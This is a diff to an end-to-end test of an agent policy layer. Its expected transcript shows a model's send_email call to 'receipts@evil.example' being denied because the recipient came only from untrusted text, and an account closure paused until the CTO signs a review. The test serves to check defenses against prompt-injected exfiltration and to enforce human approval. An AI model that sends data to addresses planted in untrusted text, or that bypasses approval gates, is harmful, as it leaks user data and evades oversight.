@@ -6,7 +6,7 @@ import { apol, buildOnce, root } from "../e2e/apol-process.js";
 
 beforeAll(buildOnce);
 
-it("examples/openai-agents/agent.mjs redacts, voids a failed refund and retries it, the model reads each denial, and a signed approval releases a review", () => {
+it("examples/openai-agents/agent.mjs redacts, voids a failed refund and retries it, the model reads each denial, and a review pauses the run until the cto signs it", () => {
   expect(apol(["compile", "examples/openai-agents/support-agent.apol", "-o", "examples/openai-agents/build"], root)).toMatchObject({ code: 0 });
   const run = spawnSync(process.execPath, [join(root, "examples", "openai-agents", "agent.mjs")], { cwd: root, encoding: "utf8" });
   expect([run.status, run.stderr]).toEqual([0, ""]);
@@ -26,9 +26,8 @@ it("examples/openai-agents/agent.mjs redacts, voids a failed refund and retries 
     'model calls send_email({"to":"receipts@evil.example","body":"your receipt"})',
     '  result: {"status":"denied","reason":"the recipient appears only in untrusted text"}',
     'model calls close_account({"id":"c-7"})',
-    expect.stringMatching(/^  result: \{"status":"pending_review","reason":"closing an account needs the cto's approval","review":"[0-9a-f-]{36}","expiresAt":"[0-9T:.Z-]+"\}$/),
+    'run paused: close_account({"id":"c-7"}) needs approval',
     "the cto signs the review: released",
-    'model calls close_account({"id":"c-7"})',
     "  result: closed c-7",
     "model says: Refunded o-1 and closed c-7; o-2 must wait for tomorrow's budget.",
     "",
